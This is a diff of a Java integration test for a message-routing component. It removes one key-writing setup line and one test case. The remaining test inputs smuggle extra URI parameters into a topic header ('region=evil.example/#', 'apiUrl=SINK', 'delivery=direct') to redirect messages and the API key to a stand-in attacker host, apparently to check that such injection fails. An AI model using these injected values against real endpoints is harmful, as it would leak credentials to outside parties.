@@ -65,7 +65,6 @@ class HomeKeyIT {
                 - wireTap:
                             uri: rootsocket:message?channel=${header.topic}""");
         step("all", "- toD: ${header.topic}");
-        route(folder, "application.properties", "the.key=" + SANDBOX.key());
         step("away", "- to: rootsocket:message?channel=a&region=us-1");
         hub = RunningHub.start(folder, SANDBOX.apiUrl(), SANDBOX.key(), Map.of());
     }
@@ -96,7 +95,6 @@ class HomeKeyIT {
                 "parameters|abc&region=evil.example/#",
                 "enrich|abc&apiUrl=SINK&delivery=direct",
                 "recipients|abc&apiUrl=SINK&delivery=direct",
-                "recipients|abc&apiUrl=SINK&delivery=direct&key={{the.key}}",
                 "recipients|abc&region=evil.example/%23&delivery=direct",
                 "recipients|abc&lazyStartProducer=true&delivery=direct&apiUrl=SINK",
                 "slip|abc&apiUrl=SINK&delivery=direct",
